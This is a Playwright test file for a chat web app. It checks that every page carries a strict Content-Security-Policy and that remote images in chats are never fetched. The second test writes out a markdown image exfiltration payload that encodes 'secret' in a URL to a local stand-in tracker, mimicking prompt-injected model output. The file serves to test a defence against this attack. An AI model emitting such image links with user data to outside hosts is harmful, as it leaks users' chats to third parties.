"""The page's Content-Security-Policy, in the browser: every page carries it, the app runs under it
without a single violation, and a remote image written in a chat is never fetched by anyone who
reads it (its author, or a visitor of its public link)."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import Page, expect

from tests.support.browser import choose_model, register, send

ASSISTANT = '[data-testid="message"][data-role="assistant"]'
# Each violation the page reports, kept where the test can read it.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""


@contextmanager
def tracking_pixel() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1 standing in for a tracker: it serves an image and records every request."""
    requests: list[str] = []

    class Pixel(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

        def log_message(self, *_args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Pixel)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


def _policy(page: Page, path: str) -> dict[str, list[str]]:
    response = page.goto(path)
    assert response is not None and response.ok, path
    header = response.headers["content-security-policy"]
    return {d.split()[0]: d.split()[1:] for d in header.split("; ")}


def _violations(page: Page) -> list[str]:
    return page.evaluate("window.__violations")


def test_every_page_carries_the_policy_and_runs_under_it(page: Page):
    page.add_init_script(WATCH_VIOLATIONS)
    for path in ("/login", "/register"):
        policy = _policy(page, path)
        assert policy["img-src"] == ["'self'", "blob:", "data:"]
        assert "'unsafe-inline'" not in policy["script-src"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert _violations(page) == []
    register(page)  # hydrated, connected to the event websocket, signed in
    for path, shown in (("/", "composer-input"), ("/settings", "api-key-status-openai")):
        policy = _policy(page, path)
        assert policy["img-src"] == ["'self'", "blob:", "data:"]
        expect(page.get_by_test_id(shown)).to_be_visible()  # loaded from the server over the websocket
        assert _violations(page) == []


def test_a_remote_image_in_a_chat_is_never_fetched(page: Page, new_page: Callable[..., Page], fake_providers):
    page.add_init_script(WATCH_VIOLATIONS)
    with tracking_pixel() as (tracker, requests):
        register(page)
        choose_model(page, "openai/gpt-4o")
        # The fake model echoes the text: the reply carries the image too, as injected output would.
        send(page, f"look ![the chat's secret]({tracker}/pixel.gif?d=secret) here")
        page.wait_for_url(re.compile(r"/chat/[0-9a-f-]{36}$"))
        chat_id = page.url.rsplit("/", 1)[-1]
        expect(page.locator(ASSISTANT).last).to_have_attribute("data-status", "complete")
        # Shown as its text, in the question and in the reply; no <img> points away.
        expect(page.get_by_test_id("image-not-shown")).to_have_count(2)
        expect(page.get_by_test_id("image-not-shown").first).to_have_text("the chat's secret")
        page.reload()
        expect(page.get_by_test_id("image-not-shown")).to_have_count(2)
        assert page.locator(f'img[src^="{tracker}"]').count() == 0

        # A visitor of the public link reads it too, and is not tracked either.
        made_public = page.request.patch("/api/share", data={"chat_id": chat_id, "is_public": True})
        assert made_public.ok, made_public.text()
        visitor = new_page()
        visitor.goto(made_public.json()["link"])
        expect(visitor.get_by_test_id("image-not-shown")).to_have_count(2)

        assert requests == []
        assert _violations(page) == []
        # And were a remote image put on the page some other way, the policy would refuse it.
        page.evaluate(f"new Image().src = '{tracker}/direct.gif'")
        page.wait_for_function("window.__violations.length > 0")
        assert _violations(page) == [f"img-src {tracker}/direct.gif"]
        assert requests == []
